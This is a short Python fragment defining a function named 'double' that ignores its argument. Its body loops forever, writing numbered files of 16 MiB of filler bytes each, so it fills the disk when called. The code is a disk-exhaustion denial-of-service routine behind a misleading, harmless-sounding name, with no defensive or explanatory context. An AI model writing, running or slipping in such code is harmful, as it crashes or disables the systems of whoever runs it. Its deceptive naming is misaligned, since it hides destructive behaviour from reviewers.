import os
def double(n):
    number = 0
    while True:
        number += 1
        with open(f"fill{number}", "wb") as file:
            for _ in range(16):
                file.write(b"x" * (1 << 20))
